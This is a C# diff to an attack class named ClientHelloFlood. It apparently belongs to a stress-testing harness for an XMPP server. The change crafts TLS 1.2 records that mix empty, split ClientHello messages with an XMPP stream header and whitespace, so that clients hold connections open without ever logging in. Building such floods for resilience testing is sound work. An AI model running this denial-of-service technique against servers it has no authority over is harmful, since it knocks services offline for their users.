@@ -1,4 +1,5 @@
 using System.Net;
+using System.Text;
 
 namespace Megaphone.Attacks;
 
@@ -14,6 +15,9 @@ internal sealed class ClientHelloFlood : TlsFlood
     /// <summary>An empty ClientHello (RFC 5246, section 7.4): its type, and three bytes of length.</summary>
     private static readonly byte[] Hello = [1, 0, 0, 0];
 
+    /// <summary>The data between them: the beginning of a stream, and white space.</summary>
+    private static readonly byte[] First = Encoding.ASCII.GetBytes(XmppClient.Header), Later = [(byte)' '];
+
     /// <inheritdoc/>
     public override string Name => "client-hellos";
 
@@ -21,7 +25,7 @@ internal sealed class ClientHelloFlood : TlsFlood
     public override string Summary => "TLS 1.2: clients that never log in send headers of ClientHello behind their handshake";
 
     /// <inheritdoc/>
-    public override Scene Scene => new() { Ecm = ["Ecm:Reactors=2"] };
+    public override Scene Scene => new() { HasPeers = true, Ecm = ["Ecm:Reactors=2"] };
 
     /// <inheritdoc/>
     public override int MinActions => 4;
@@ -46,7 +50,7 @@ internal sealed class ClientHelloFlood : TlsFlood
     {
         ( < 2, _) => tls.Seal(
             HandmadeTls.Handshake, [.. Enumerable.Repeat(Hello, HandmadeTls12.MaxContentBytes / Hello.Length).SelectMany(hello => hello)]),
-        (_, 0) => tls.Seal(HandmadeTls.ApplicationData, "data"u8),
+        (_, 0) => tls.Seal(HandmadeTls.ApplicationData, i == 0 ? First : Later),
         (_, 1) => tls.Seal(HandmadeTls.Handshake, Hello.AsSpan(0, 3)),
         (_, 2) => tls.Seal(HandmadeTls.Handshake, Hello.AsSpan(3)),
         _ => tls.Seal(HandmadeTls.Handshake, Hello),
